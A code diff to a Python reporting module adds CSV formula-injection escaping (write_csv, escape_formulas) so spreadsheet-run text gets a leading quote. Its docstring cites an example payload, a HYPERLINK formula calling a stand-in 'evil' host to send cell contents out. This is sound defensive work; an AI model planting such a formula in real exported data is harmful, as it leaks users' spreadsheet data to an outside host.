@@ -43,16 +43,21 @@ __all__ = [
     "FORMATS",
     "compute_reports",
     "display_order",
+    "escape_formulas",
     "render_html",
     "save_html",
     "save_reports",
     "to_png",
+    "write_csv",
 ]
 
 Format = Literal["parquet", "csv"]
 FORMATS: tuple[Format, ...] = ("parquet", "csv")
 
 _ID_LIST = pa.list_(pa.string())
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""How a text that a spreadsheet runs as a formula begins (OWASP's list for CSV injection)."""
 
 
 def compute_reports(
@@ -123,7 +128,9 @@ def save_reports(
     format : {"parquet", "csv"}, default "parquet"
         Parquet keeps every dtype, and writes the lists of ids of a report (such as
         ``outlier_consumer_ids``) as ``list<string>``. CSV writes those lists as JSON text
-        (``["c1", "c2"]``), and nulls as empty fields.
+        (``["c1", "c2"]``), nulls as empty fields, and text that a spreadsheet would run
+        as a formula (``=``, ``+``, ``-``, ``@``, tab or carriage return first) with a
+        leading ``'``; see :func:`write_csv`.
     reports : mapping of str to DataFrame, optional
         The reports already computed by :func:`compute_reports` on ``frames``, so that a
         caller who also renders them does not run them twice.
@@ -167,7 +174,7 @@ def save_reports(
                 pq.write_table(table, fh, compression="zstd")
         else:
             with _atomic(path, "w") as fh:
-                _to_csv_frame(df).to_csv(fh, index=False, lineterminator="\n")
+                write_csv(_to_csv_frame(df), fh)
         paths.append(path)
     return paths
 
@@ -214,6 +221,52 @@ def _to_csv_frame(df: pd.DataFrame) -> pd.DataFrame:
         if _is_id_list(df[name]) and len(df)
     }
     return df.assign(**lists) if lists else df
+
+
+def write_csv(df: pd.DataFrame, out: IO[str]) -> None:
+    """Write ``df`` to text stream ``out`` as a CSV that a spreadsheet opens safely.
+
+    Every CSV of chift_frames is written here. Text that a spreadsheet would run as a
+    formula gets a leading ``'`` (see :func:`escape_formulas`). Rows end in CRLF, as RFC
+    4180 says, so that a cell holding a line break, even a lone carriage return, is quoted
+    whatever the Python version: unquoted, a spreadsheet would start a new row there, and
+    the rest of the cell would be a cell of its own, formula and all. A stream opened on a
+    file takes ``newline=""``. The index is not written.
+    """
+    escape_formulas(df).to_csv(out, index=False, lineterminator="\r\n")
+
+
+def _escape_text(value: Any) -> Any:
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
+def escape_formulas(df: pd.DataFrame) -> pd.DataFrame:
+    """Return ``df`` with a ``'`` before each text that a spreadsheet would run as a formula.
+
+    A text cell (or column name) that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
+    carriage return, as in :data:`FORMULA_STARTS`, gets a leading ``'``, so that a
+    spreadsheet that opens the CSV shows it rather than runs it: the names and values of a
+    snapshot come from Chift's users, and ``=HYPERLINK("http://evil/?x="&A1)`` would send
+    the sheet's cells away. Numbers stay numbers (``-5`` in a numeric column is written as
+    ``-5``); only text is touched. Every CSV that chift_frames writes goes through this.
+
+    Examples
+    --------
+    >>> df = pd.DataFrame({"name": ["=1+1", "POS", "-x"], "delta": [-5, 0, 2]})
+    >>> escape_formulas(df).to_dict("list")
+    {'name': ["'=1+1", 'POS', "'-x"], 'delta': [-5, 0, 2]}
+    """
+    out = df.copy()
+    for i in range(df.shape[1]):
+        column = df.iloc[:, i]
+        if isinstance(column.dtype, pd.StringDtype):
+            starts = column.str.startswith(FORMULA_STARTS).fillna(False).astype(bool)
+            if starts.any():
+                out.isetitem(i, column.mask(starts, "'" + column).array)
+        elif column.dtype == object or isinstance(column.dtype, pd.CategoricalDtype):
+            out.isetitem(i, column.map(_escape_text).array)
+    out.columns = [_escape_text(name) for name in df.columns]
+    return out
 
 
 # -- the HTML page -------------------------------------------------------------------------------
